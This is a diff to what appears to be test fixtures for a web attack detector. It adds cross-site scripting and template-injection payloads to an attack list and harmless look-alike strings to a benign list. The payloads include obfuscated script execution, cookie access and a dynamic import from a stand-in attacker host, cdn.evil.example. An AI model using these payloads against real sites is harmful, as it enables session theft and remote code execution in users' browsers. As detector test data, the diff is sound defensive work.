@@ -64,7 +64,7 @@ ATTACKS: dict[str, tuple[str, Context, str]] = {
                                 "ssti"),
     "ognl_member_access_unlocked": ("(#_memberAccess['allowStaticMethodAccess']=true)", QUERY, "ssti"),
     "ognl_default_member_access": ("%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", BODY, "ssti"),
-    "freemarker_special_variable": ("${.globals}", QUERY, "ssti"),
+    "freemarker_special_variable": ("${.locals}", QUERY, "ssti"),
     # XSS in a JavaScript context, or spelled so a JavaScript string reads it as script
     "handler_glued_to_tag_name": ("<detailsontoggle=confirm(document.cookie)>", QUERY, "xss"),
     "parenthesised_sink_after_operator": ("1*(prompt)(origin)//", QUERY, "xss"),
@@ -76,6 +76,12 @@ ATTACKS: dict[str, tuple[str, Context, str]] = {
     "operand_operator_sink_call": ("7;confirm(7)//", QUERY, "xss"),
     "tagged_template_timer": ("setInterval`prompt\\x28document.domain\\x29`", BODY, "xss"),
     "octal_angle_brackets": ("\\74script\\76confirm(9)\\74/script\\76", QUERY, "xss"),
+    "sink_call_as_tagged_template": ("prompt.call`1`", QUERY, "xss"),
+    "function_constructor_from_an_object": ("({}).constructor.constructor('return this')().print()", BODY, "xss"),
+    "name_spelled_in_base_36": ("eval(1558153217..toString(36))(1)", QUERY, "xss"),
+    "sink_applied_through_reflect": ("Reflect.apply(confirm,window,[1])", BODY, "xss"),
+    "remote_module_import": ("import('https://cdn.evil.example/m.js')", QUERY, "xss"),
+    "document_through_window_brackets": ("self['document']['domain']", BODY, "xss"),
     "octal_escaped_script_url": (_octal("javascript:") + "prompt(8)", QUERY, "xss"),
     "needless_backslashes_in_script_url": ("j\\ava\\s\\cri\\pt:\\pro\\mpt(1)", BODY, "xss"),
 }
@@ -143,6 +149,10 @@ BENIGN: dict[str, tuple[str, Context]] = {
     "variable_named_like_a_sink": ("f = confirm; f is a function", BODY),
     "numbered_step": ("Step 1; alert the team (by phone)", BODY),
     "bullet_with_alert": ("- Alert (high) for disk usage", BODY),
+    "relative_module_import": ("import('./chart.js').then(m => m.draw())", BODY),
+    "number_formatting": ("(255).toString(16) and n.toString(36)", BODY),
+    "constructor_name": ("obj.constructor.name", BODY),
+    "window_document_title": ("window['document'].title", BODY),
     "octal_file_mode": ("chmod \\644 is not \\755", BODY),
 }
 
